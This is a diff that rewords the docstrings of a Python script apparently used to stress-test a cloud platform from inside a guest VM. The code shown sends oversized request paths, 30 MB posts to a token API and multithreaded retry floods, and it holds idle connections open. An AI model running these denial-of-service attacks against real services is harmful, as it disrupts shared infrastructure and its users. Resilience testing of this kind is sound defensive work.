@@ -1,4 +1,4 @@
-"""What a hostile guest does to its cloud; runs in the guest: standard library only.
+"""Attacks of a hostile guest on its cloud; runs in the guest: standard library only.
 
 python3 attacks.py paths|tokens|idle|websockets SECONDS
 """
@@ -23,14 +23,14 @@ def exchange(port, data):
 
 
 def paths():
-    """Paths of 250 kB, and of as much as is let in."""
+    """Request paths of 250 kB, and of the longest that is accepted."""
     for length in (250_000, 8_000):
         path = b"/" + b"x" * length + b"%d" % time.monotonic_ns()
         exchange(80, b"GET " + path + b" HTTP/1.0\r\nHost: x\r\n\r\n")
 
 
 def tokens():
-    """Posts of 30 MB for a token."""
+    """Post 30 MB to the token API."""
     head = b"POST /v3/auth/tokens HTTP/1.0\r\nHost: x\r\nContent-Length: 30000000\r\n\r\n"
     with connect(5000) as connection:
         connection.sendall(head)
@@ -39,7 +39,7 @@ def tokens():
 
 
 def parallel(attack, end):
-    """Do it in 16 threads until the end; what is refused is done again."""
+    """Repeat the attack in 16 threads until *end*; retry refused connections."""
 
     def again():
         while time.monotonic() < end:
@@ -56,7 +56,7 @@ def parallel(attack, end):
 
 
 def hold(ports, count, end):
-    """Open many connections, say nothing, and keep them."""
+    """Open many connections, send nothing, and keep them open."""
     held = []
     for number in range(count):
         connection = socket.socket()
